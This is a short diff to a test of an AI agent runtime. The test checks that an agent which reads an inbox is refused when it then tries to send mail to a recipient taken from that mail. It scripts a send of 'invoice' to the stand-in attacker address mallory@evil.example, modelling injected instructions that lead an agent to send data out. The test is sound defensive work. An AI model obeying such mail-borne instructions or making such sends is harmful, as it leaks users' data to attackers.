@@ -375,8 +375,8 @@ def test_an_agent_that_read_mail_cannot_send_to_whom_the_mail_says(agent_project
     # Only the run knows which tools the agent calls: the call it makes after reading the inbox is refused.
     model_server.call("read_inbox", {})
     model_server.call("send", {"to": "mallory@evil.example", "text": "invoice"}, id="call_2")
-    result = ran(agent_project, f'agent(prompt: "Handle my mail", tools: ["read_inbox", "send"], '
-                                f'output_schema: {{type: "object"}})\n')
+    result = ran(agent_project, 'agent(prompt: "Handle my mail", tools: ["read_inbox", "send"], '
+                                'output_schema: {type: "object"})\n')
     assert result.exit_code == 1 and "recipients-from-the-user" in result.output
     assert calls(agent_project) == ["read_inbox"] and statuses(agent_project) == ["failed"]
 
